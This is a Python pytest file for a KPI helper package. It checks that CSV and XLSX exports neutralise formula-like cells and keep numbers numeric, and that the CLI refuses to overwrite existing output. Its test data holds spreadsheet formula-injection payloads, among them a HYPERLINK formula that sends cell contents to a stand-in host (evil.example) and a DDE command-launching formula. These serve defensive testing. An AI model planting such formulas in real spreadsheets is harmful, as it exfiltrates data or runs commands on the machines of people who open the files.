"""No CSV or XLSX the product writes holds a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from kpi_helpers.cli.parser import main
from kpi_helpers.data.spreadsheet import csv_text, neutralise_cell, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_cells_that_start_like_a_formula_get_a_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+2.5", "-0.25", "1e3", "plain text", "a=b", "", 3, -4.5])
def test_numbers_and_harmless_text_are_left_alone(cell):
    assert neutralise_cell(cell) == cell


def _frame():
    import pandas as pd

    return pd.DataFrame({"text": HOSTILE, "score": [-0.5, 1, 0, 2.5, -3, 4, 5]})


def test_csv_keeps_text_inert_and_numbers_numeric(tmp_path):
    path = write_table(_frame(), tmp_path / "out.csv")
    written = path.read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert [r["text"] for r in rows] == ["'" + h for h in HOSTILE]
    assert [r["score"] for r in rows] == ["-0.5", "1.0", "0.0", "2.5", "-3.0", "4.0", "5.0"]
    assert csv_text(_frame()) == written


def test_xlsx_stores_formula_like_text_as_text_cells(tmp_path):
    path = write_table(_frame(), tmp_path / "out.xlsx")
    ws = load_workbook(path).active
    texts = [c.value for c in ws["A"][1:]]
    assert texts == [*HOSTILE[:-1], "\n=1"]  # XML reads a CR in text back as LF
    assert all(c.data_type == "s" for c in ws["A"][1:])
    assert [c.value for c in ws["B"][1:]] == [-0.5, 1, 0, 2.5, -3, 4, 5]
    assert all(c.data_type == "n" for c in ws["B"][1:])


def test_sentiment_output_holds_no_formula_and_refuses_to_overwrite(tmp_path, capsys):
    src = tmp_path / "reviews.csv"
    src.write_text(
        'id,review\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
        "2,=cmd|' /C calc'!A0\n3,great app love it\n",
        encoding="utf-8",
    )
    xlsx, out_csv = tmp_path / "labelled.xlsx", tmp_path / "labelled.csv"
    for out in (xlsx, out_csv):
        args = ["sentiment", "--input", str(src), "--text-column", "review", "--output", str(out)]
        assert main(args) == 0
    ws = load_workbook(xlsx).active
    column = [c for c in ws["B"][1:]]
    assert [c.value for c in column[:2]] == [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
    ]
    assert all(c.data_type == "s" for c in column)
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    assert rows[1]["review"] == "'=cmd|' /C calc'!A0"
    assert rows[2]["sentiment"] == "positive"
    before = out_csv.read_bytes()
    capsys.readouterr()
    args = ["sentiment", "--input", str(src), "--text-column", "review", "--output", str(out_csv)]
    assert main(args) == 2
    assert "already exists; pass --force to replace it" in capsys.readouterr().err
    assert out_csv.read_bytes() == before
    assert main([*args, "--force"]) == 0


def test_review_proposal_and_score_csv_keep_their_columns(tiny_data, tmp_path, capsys):
    out = tmp_path / "proposal.csv"
    assert main(["review", "--data", str(tiny_data), "--proposal-out", str(out)]) == 0
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header == "period,kpi_id,target,threshold,stretch"
    assert main(["review", "--data", str(tiny_data), "--proposal-out", str(out)]) == 1
    assert "already exists" in capsys.readouterr().err
    assert main(["score", "--data", str(tiny_data), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and not any(v.startswith("'") for r in rows for v in r.values() if v)
